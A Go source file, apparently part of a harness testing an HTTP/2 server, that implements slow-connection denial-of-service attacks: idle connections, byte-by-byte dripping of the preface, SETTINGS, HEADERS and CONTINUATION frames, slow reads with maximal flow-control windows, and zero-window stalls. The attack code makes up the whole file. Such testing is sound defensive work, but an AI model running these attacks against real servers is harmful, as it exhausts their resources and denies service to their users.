package main

import (
	"errors"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// This file is attacks that hold on to what they have by doing nearly nothing.

// dripEvery is how long a slow peer waits before each byte: often enough that
// no idle timeout takes it for dead.
const dripEvery = 500 * time.Millisecond

// silence connects and says nothing.
type silence struct{}

func (silence) strike(p *peer) error {
	p.watch()
	return p.stay()
}

// slowPreface takes 12 s for the 24 bytes of the preface.
type slowPreface struct{}

func (slowPreface) strike(p *peer) error {
	p.watch()
	return p.drip(dripEvery, []byte(http2.ClientPreface))
}

// slowSettings sends the preface at once and the first frame in 16 s and more.
type slowSettings struct{}

func (slowSettings) strike(p *peer) error {
	p.watch()
	if _, err := p.nc.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	settings := []byte{0, 0, 24, byte(http2.FrameSettings), 0, 0, 0, 0, 0}
	for id := range byte(4) {
		settings = append(settings, 0, 0xf0|id, 0, 0, 0, 0) // unknown settings are ignored
	}
	return p.drip(dripEvery, settings)
}

// slowContinuations begins a header block and goes on with it, a byte a frame.
type slowContinuations struct{}

func (slowContinuations) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.request(echoPath)})
	for err == nil {
		if err = p.out.Flush(); err != nil || !wait(p.ctx, dripEvery) {
			break
		}
		p.frames++
		err = p.framer.WriteContinuation(1, false, []byte{0x82})
	}
	return err
}

// slowHeadersFrame drips one HEADERS frame.
type slowHeadersFrame struct{}

func (slowHeadersFrame) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	block := p.request(echoPath, hpack.HeaderField{Name: "x", Value: "so long that the attack's time is over before the frame is"})
	frame := []byte{0, 0, byte(len(block)), byte(http2.FrameHeaders), byte(http2.FlagHeadersEndHeaders | http2.FlagHeadersEndStream), 0, 0, 0, 1}
	return p.drip(dripEvery, append(frame, block...))
}

// download asks for an answer of 1 MiB on each of many streams.
func (p *peer) download(streams int) error {
	for range streams {
		stream, err := p.call(downloadPath)
		if err != nil {
			return err
		}
		if err := p.framer.WriteData(stream, true, emptyMessage); err != nil {
			return err
		}
		p.frames += 2
	}
	return p.out.Flush()
}

// maxWindow is the largest window that HTTP/2 has.
const maxWindow = 1<<31 - 1

// slowRead allows the agent to send everything and never reads it.
type slowRead struct {
	streams int
}

func (a slowRead) strike(p *peer) error {
	// What the kernel takes in the reader's stead does not count.
	if err := p.nc.SetReadBuffer(16 << 10); err != nil {
		return err
	}
	if err := p.hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: maxWindow}); err != nil {
		return err
	}
	if err := errors.Join(p.framer.WriteWindowUpdate(0, maxWindow-65535), p.download(a.streams)); err != nil {
		return err
	}
	return p.probe()
}

// probe finds out without reading whether the connection is still there: a
// PING a time makes a closed one answer with a reset.
func (p *peer) probe() error {
	for wait(p.ctx, 100*time.Millisecond) {
		if err := errors.Join(p.framer.WritePing(false, [8]byte{}), p.out.Flush()); err != nil {
			return err
		}
		p.frames++
	}
	return nil
}

// windowStall reads all that comes and never lets a byte of an answer through.
type windowStall struct {
	streams int
}

func (a windowStall) strike(p *peer) error {
	if err := p.hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	p.watch()
	if err := p.download(a.streams); err != nil {
		return err
	}
	return p.stay()
}
